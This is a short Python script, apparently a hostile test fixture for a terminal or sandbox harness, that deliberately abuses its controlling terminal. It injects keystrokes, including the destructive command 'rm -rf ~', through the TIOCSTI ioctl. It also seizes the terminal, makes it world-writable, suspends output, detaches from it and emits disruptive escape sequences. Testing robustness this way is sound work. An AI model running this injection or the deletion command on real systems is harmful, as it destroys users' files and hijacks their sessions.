"""Maltraite son terminal : réglages, touches injectées, sortie suspendue."""

import contextlib
import fcntl
import os
import signal
import struct
import termios
import tty

from tools import behave

TIOCSTI, TIOCEXCL, TIOCSWINSZ, TIOCCONS = 0x5412, 0x540C, 0x5414, 0x541D
tty.setraw(0)
for key in b"\x03\x04\x1a\x1crm -rf ~\n":
    with contextlib.suppress(OSError):
        fcntl.ioctl(0, TIOCSTI, bytes([key]))
for request in (TIOCEXCL, TIOCCONS):
    with contextlib.suppress(OSError):
        fcntl.ioctl(0, request)
for size in ((0, 0), (65535, 65535), (1, 1)):
    with contextlib.suppress(OSError):
        fcntl.ioctl(0, TIOCSWINSZ, struct.pack("HHHH", *size, 0, 0))
with contextlib.suppress(termios.error):
    termios.tcflow(0, termios.TCOOFF)
    termios.tcflow(0, termios.TCOON)
with contextlib.suppress(OSError):
    os.fchmod(0, 0o777)
signal.signal(signal.SIGHUP, signal.SIG_IGN)  # ce que vaut à sa session de rendre son terminal
with contextlib.suppress(OSError):
    fcntl.ioctl(0, termios.TIOCNOTTY)
print("\x1b[?1049h\x1b[2J\x1bc\x1b[8;1;1t\x1b[?3h", end="")
behave()
